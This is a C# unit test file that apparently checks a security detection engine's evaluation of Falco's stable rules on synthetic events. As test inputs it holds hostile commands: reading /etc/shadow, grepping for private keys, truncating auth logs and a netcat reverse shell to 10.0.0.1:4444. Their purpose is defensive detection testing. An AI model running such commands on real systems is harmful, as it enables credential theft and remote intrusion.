using Vigil.Testing;
using Vigil.Detection.Enrichment;
using Vigil.Detection.Rules;
using Vigil.Events;
using static Vigil.Detection.Tests.SyntheticEvents;

namespace Vigil.Detection.Tests;

/// <summary>Falco's stable rules on synthetic Vigil events. Needs the Falco rule files (see <see cref="FalcoRulesLocation"/>).</summary>
public sealed class StableRulesEvaluationTests
{
    private static readonly PasswdUserResolver Users = new(
        PasswdUserResolver.ParseIdFile(["root:x:0:0::/root:/bin/bash", "daemon:x:1:1::/:/usr/sbin/nologin", "alice:x:1000:1000::/home/alice:/bin/bash"]),
        PasswdUserResolver.ParseIdFile(["root:x:0:", "alice:x:1000:"]));

    private static RuleSet Load() =>
        RuleLoader.Load([FalcoRulesLocation.StableRules], new RuleLoadOptions
        {
            Environment = new RuleEnvironment { Users = Users },
        }).RuleSet;

    private static IEnumerable<string> Fired(VigilEvent e) => Load().Evaluate(e).Select(d => d.RuleName);

    private static ProcessInfo Running(string binary, string comm) => Process(binary, [binary], ShellSession(), pid: 3000, comm: comm);

    [Fact]
    public void Read_sensitive_file_untrusted_fires_for_cat_not_for_trusted_binaries()
    {
        Assert.Contains("Read sensitive file untrusted", Fired(Open("/etc/shadow", FileIntent.Read, Running("/usr/bin/cat", "cat"))));
        Assert.DoesNotContain("Read sensitive file untrusted", Fired(Open("/etc/shadow", FileIntent.Read, Running("/usr/sbin/sshd", "sshd"))));
        Assert.DoesNotContain("Read sensitive file untrusted", Fired(Open("/etc/shadow", FileIntent.Read, Running("/usr/bin/passwd", "passwd"))));
        Assert.Empty(Fired(Open("/etc/hostname", FileIntent.Read, Running("/usr/bin/cat", "cat"))));
        Assert.Empty(Fired(Open("/etc/shadow", FileIntent.Write, Running("/usr/bin/cat", "cat"), flags: 1)));
    }

    [Fact]
    public void Search_private_keys_fires_on_grep_for_keys_only()
    {
        Assert.Equal(["Search Private Keys or Passwords"], Fired(Exec("/usr/bin/grep", ["grep", "-rl", "BEGIN RSA PRIVATE", "/"])));
        Assert.Equal(["Search Private Keys or Passwords"], Fired(Exec("/usr/bin/find", ["find", "/", "-name", "id_rsa"])));
        Assert.Empty(Fired(Exec("/usr/bin/grep", ["grep", "-r", "TODO", "."])));
    }

    [Fact]
    public void Clear_log_activities_needs_truncation_of_a_log_file()
    {
        const uint WriteCreateTrunc = 0x241;
        ProcessInfo shell = Running("/usr/bin/bash", "bash");
        Assert.Contains("Clear Log Activities", Fired(Open("/var/log/auth.log", FileIntent.Write | FileIntent.Truncate, shell, flags: WriteCreateTrunc)));
        Assert.Empty(Fired(Open("/var/log/auth.log", FileIntent.Write, shell, flags: 0x441)));
        Assert.Empty(Fired(Open("/home/alice/notes.log", FileIntent.Write | FileIntent.Truncate, shell, flags: WriteCreateTrunc)));
    }

    [Fact]
    public void Symlink_over_sensitive_file()
    {
        ProcessInfo shell = Running("/usr/bin/ln", "ln");
        Assert.Equal(["Create Symlink Over Sensitive Files"], Fired(PathPair("symlinkat", "/etc/shadow", "/tmp/s", shell)));
        Assert.Empty(Fired(PathPair("symlinkat", "/tmp/a", "/tmp/b", shell)));
    }

    [Fact]
    public void Ptrace_attach_and_traceme()
    {
        ProcessInfo gdb = Running("/usr/bin/gdb", "gdb");
        Assert.Equal(["PTRACE attached to process"], Fired(Ptrace(gdb, 16)));
        Assert.Equal(["PTRACE anti-debug attempt"], Fired(Ptrace(gdb, 0)));
        Assert.Empty(Fired(Ptrace(gdb, 7)));
    }

    [Fact]
    public void System_user_interactive_resolves_names_from_passwd()
    {
        Assert.Contains("System user interactive", Fired(Exec("/usr/bin/id", ["id"], uid: 1)));
        Assert.DoesNotContain("System user interactive", Fired(Exec("/usr/bin/id", ["id"], uid: 1000)));
    }

    [Fact]
    public void Run_shell_untrusted_fires_under_a_web_server_not_under_a_shell()
    {
        ProcessInfo nginx = Process("/usr/sbin/nginx", ["nginx", "-g", "daemon off;"], pid: 700);
        Assert.Contains("Run shell untrusted", Fired(Exec("/bin/sh", ["sh", "-c", "id"], nginx, pid: 701)));
        Assert.DoesNotContain("Run shell untrusted", Fired(Exec("/bin/sh", ["sh", "-c", "kill -0 1"], nginx, pid: 701)));
        Assert.DoesNotContain("Run shell untrusted", Fired(Exec("/bin/sh", ["sh", "-c", "id"])));
    }

    [Fact]
    public void Container_rules_read_the_container_enrichment_found()
    {
        ProcessExecEvent netcat = Exec("/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
        netcat.Context!.Container = ContainerInfo.Host;
        Assert.DoesNotContain("Netcat Remote Code Execution in Container", Fired(netcat));
        netcat.Context.Container = new ContainerInfo { Runtime = ContainerRuntime.Docker, Id = new string('a', 64), CgroupPath = "/docker/" + new string('a', 64) };
        Assert.Contains("Netcat Remote Code Execution in Container", Fired(netcat));
    }

    [Fact]
    public void Detection_carries_rendered_output_fields_and_event()
    {
        ProcessExecEvent grep = Exec("/usr/bin/grep", ["grep", "BEGIN RSA PRIVATE", "/home"]);
        RuleDetection d = Assert.Single(Load().Evaluate(grep));
        Assert.Equal(RulePriority.Warning, d.Priority);
        Assert.Contains("T1552.001", d.Tags);
        Assert.Same(grep, d.Event);
        Assert.StartsWith("Grep private keys or passwords activities found | evt_type=execve user=alice user_uid=1000 user_loginuid=-1 process=grep proc_exepath=/usr/bin/grep parent=bash command=grep BEGIN RSA PRIVATE /home terminal=0", d.Output, StringComparison.Ordinal);
        Assert.Contains(KeyValuePair.Create("proc.name", "grep"), d.Fields);
        Assert.Contains(KeyValuePair.Create("proc.args", "BEGIN RSA PRIVATE /home"), d.Fields);
        Assert.Contains(KeyValuePair.Create("user.loginuid", "-1"), d.Fields);
    }

    [Fact]
    public void Fileless_execution_fires_on_a_memfd_image_only()
    {
        var fileless = new ExecDetails { ExeFromMemfd = true, Cwd = "/tmp", LoginUid = 1000 };
        RuleDetection d = Assert.Single(Load().Evaluate(Exec("/proc/self/fd/3", ["payload"], details: fileless)));
        Assert.Equal("Fileless execution via memfd_create", d.RuleName);
        Assert.Contains("proc_cwd=/tmp/ ", d.Output, StringComparison.Ordinal);
        Assert.Contains("user_loginuid=1000 ", d.Output, StringComparison.Ordinal);
        Assert.Empty(Fired(Exec("/usr/bin/true", ["true"], details: new ExecDetails { Cwd = "/tmp" })));
    }

    [Fact]
    public void Terminal_shell_in_container_needs_a_terminal()
    {
        ProcessInfo runc = Process("/usr/bin/runc", ["runc", "exec"], pid: 700, comm: "runc");
        var container = new ContainerInfo { Runtime = ContainerRuntime.Docker, Id = new string('b', 64), CgroupPath = "/docker/" + new string('b', 64) };
        ProcessExecEvent Shell(uint tty)
        {
            ProcessExecEvent e = Exec("/bin/bash", ["bash"], runc, details: new ExecDetails { Tty = tty, Cwd = "/" });
            e.Context!.Container = container;
            return e;
        }

        const uint pts0 = (136 << 8) | 0;
        Assert.Contains("Terminal shell in container", Fired(Shell(pts0)));
        Assert.DoesNotContain("Terminal shell in container", Fired(Shell(0)));
    }

    [Fact]
    public void Capability_sets_render_as_names()
    {
        const ulong chownAndSysAdmin = (1UL << 0) | (1UL << 21);
        const string condition = "thread.cap_effective contains CAP_SYS_ADMIN and not thread.cap_permitted contains CAP_NET_ADMIN";
        Assert.True(RuleHarness.Matches(condition, Exec("/usr/bin/true", ["true"], details: new ExecDetails { CapEffective = chownAndSysAdmin, CapPermitted = chownAndSysAdmin })));
        Assert.False(RuleHarness.Matches(condition, Exec("/usr/bin/true", ["true"], details: new ExecDetails { CapEffective = 1, CapPermitted = 1 })));
    }
}
